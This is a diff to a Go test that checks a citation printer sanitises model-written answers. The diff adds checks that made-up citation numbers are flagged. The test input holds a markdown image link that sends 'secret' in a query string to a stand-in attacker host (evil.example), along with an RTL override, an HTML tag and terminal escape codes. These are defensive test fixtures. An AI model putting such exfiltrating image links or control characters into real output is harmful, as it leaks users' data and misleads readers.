@@ -168,12 +168,12 @@ func TestErrorsSayWhatToDo(t *testing.T) {
 func TestWhatTheModelWroteIsMadeSafe(t *testing.T) {
 	var out bytes.Buffer
 	s := &sources{blocks: []*dalilv1.ContextBlock{{Citation: "12", Document: &dalilv1.Document{DocumentId: "d", Url: "https://example.org/d"}, Span: &dalilv1.Span{End: 5}}}}
-	answer := "جواب [١٢]\u202e. ![chart](http://evil.example/?q=secret) [here](https://evil.example/a) http://evil.example/b <img src=x> \x1b[31mred"
+	answer := "جواب [١٢]\u202e. More 【13†line 7】, [14, 12]. ![chart](http://evil.example/?q=secret) [here](https://evil.example/a) http://evil.example/b <img src=x> \x1b[31mred"
 	if err := s.print(&out, answer); err != nil {
 		t.Fatal(err)
 	}
 	if got := out.String(); strings.Contains(got, "evil") || strings.ContainsAny(got, "\u202e\x1b<") || !strings.Contains(got, "[١٢] https://example.org/d, bytes 0 to 5") ||
-		!strings.Contains(got, "chart here") {
+		!strings.Contains(got, "chart here") || !strings.Contains(got, "[13] is not a source") || !strings.Contains(got, "[14] is not a source") || strings.Contains(got, "[7]") {
 		t.Errorf("%s", got)
 	}
 	if err := run(t.Context(), []string{"--help"}, keys{}, io.Discard, io.Discard); err != nil {
